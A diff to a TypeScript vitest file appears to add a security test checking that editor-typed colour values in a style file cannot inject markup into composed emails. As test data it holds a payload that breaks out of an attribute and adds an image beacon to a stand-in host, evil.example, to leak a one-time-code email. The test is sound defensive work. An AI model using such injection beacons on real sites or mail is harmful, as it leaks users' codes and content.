@@ -1,6 +1,7 @@
 import { cpSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { composeEmail } from '@/lib/mail/compose';
 import { readMessages } from '@/lib/i18n/messages';
 import { languages } from '@/lib/language';
 import { log } from '@/lib/log';
@@ -228,4 +229,13 @@ describe('broken content', () => {
     expect(await read.readProducts()).toBeNull();
     expect(JSON.stringify(vi.mocked(log.error).mock.calls.at(-1)?.[0])).toContain(`duplicate key ${first.key}`);
   });
+});
+
+it('no colour that an editor typed becomes markup of pages, mails and pictures [X49]', async () => {
+  const beacon = `#fff"><img src='https://evil.example/?`;
+  edit('midan/style.json', JSON.stringify({ '--paper': beacon, '--gold': "red'/><image/>", '--ink': '#141d30' }));
+  const { html } = await composeEmail('one-time-code', 'en', { name: 'Mona', code: '123456', minutes: '10' });
+  expect(html).toContain('123456');
+  expect(html).not.toContain('evil.example');
+  expect(await read.readStyle()).toEqual({ '--ink': '#141d30' });
 });
